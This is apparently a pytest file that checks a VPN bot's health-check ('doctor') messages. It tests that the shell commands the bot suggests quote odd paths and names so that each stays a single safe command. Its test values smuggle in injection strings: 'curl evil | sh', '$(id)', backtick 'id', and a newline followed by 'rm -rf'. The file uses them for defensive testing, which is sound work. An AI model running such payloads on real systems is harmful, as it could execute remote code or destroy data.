"""What `doctor` tells to type is one command, whatever is in a name or a path."""

import shlex
from pathlib import Path

import pytest

from bot.cli.bots_unit import _in_unit
from bot.health.results import ShellLine, Trouble, mend_with, trouble, trouble_from
from bot.process.data_folder import DataFolder
from bot.texts import health as words
from vpn.errors import HostError
from vpn.host.units import restart_command

ODD = "/var/x; curl evil | sh #'$(id)\n`id`"


@pytest.mark.parametrize(
    "complaint", [words.OPEN_TO_OTHERS, words.FOLDER_STRANGER, words.DATABASE_SHUT, words.ENV_SHUT]
)
def test_values_are_single_words_of_a_shell(complaint: words.Complaint) -> None:
    names = ("path", "folder", "account", "owner", "stranger")
    mend = trouble(complaint, **dict.fromkeys(names, ODD)).mend

    assert shlex.quote(ODD) in mend
    assert "curl" not in mend.replace(shlex.quote(ODD), "")


BOTH = {"server": "a b", "config": ODD}


def test_a_command_stays_one() -> None:
    inner = ShellLine(mend_with("vpnbot server adopt {server} --config {config}", **BOTH))

    mend = mend_with("Run as root: {adopt}; then {restart}", adopt=inner, restart=ShellLine("x y"))
    assert mend == f"Run as root: {inner}; then x y"
    assert shlex.split(inner)[3:6] == ["a b", "--config", ODD]


def test_an_error_brings_its_own_mend() -> None:
    def split(text: str) -> Trouble:
        return trouble_from(HostError(text), "the other")

    quoted = shlex.quote(ODD)
    assert split("It is shut; run: chmod o+x /a; then b") == Trouble(
        "It is shut.", "Run: chmod o+x /a; then b"
    )
    assert split(f"{quoted} is shut.") == Trouble(f"{quoted} is shut.", "the other")
    assert split(f"OpenVPN's {quoted} is shut; run: chmod o+x {quoted}") == Trouble(
        f"OpenVPN's {quoted} is shut.", f"Run: chmod o+x {quoted}"
    )
    assert split(f"OpenVPN's and users' {quoted} is shut") == Trouble(
        f"OpenVPN's and users' {quoted} is shut", "the other"
    )


def test_a_folder_is_quoted_in_every_message() -> None:
    assert shlex.split(str(DataFolder(Path(ODD)))) == [ODD]


def test_the_line_for_a_restart_stays_a_comment() -> None:
    line = restart_command("srv/a\nrm -rf x.conf")

    assert line.startswith("# restart")
    assert "\n" not in line
    assert restart_command("srv/a b.conf").endswith("'/srv/a b.conf'")


@pytest.mark.parametrize(
    ("path", "written"),
    [
        ("/srv/office", "/srv/office"),
        ("/srv/of fice", '"/srv/of fice"'),
        ("/srv/100%", "/srv/100%%"),
        ('/a"b\\c %n', r'"/a\"b\\c %%n"'),
    ],
)
def test_a_path_in_a_unit(path: str, written: str) -> None:
    assert _in_unit(path) == written
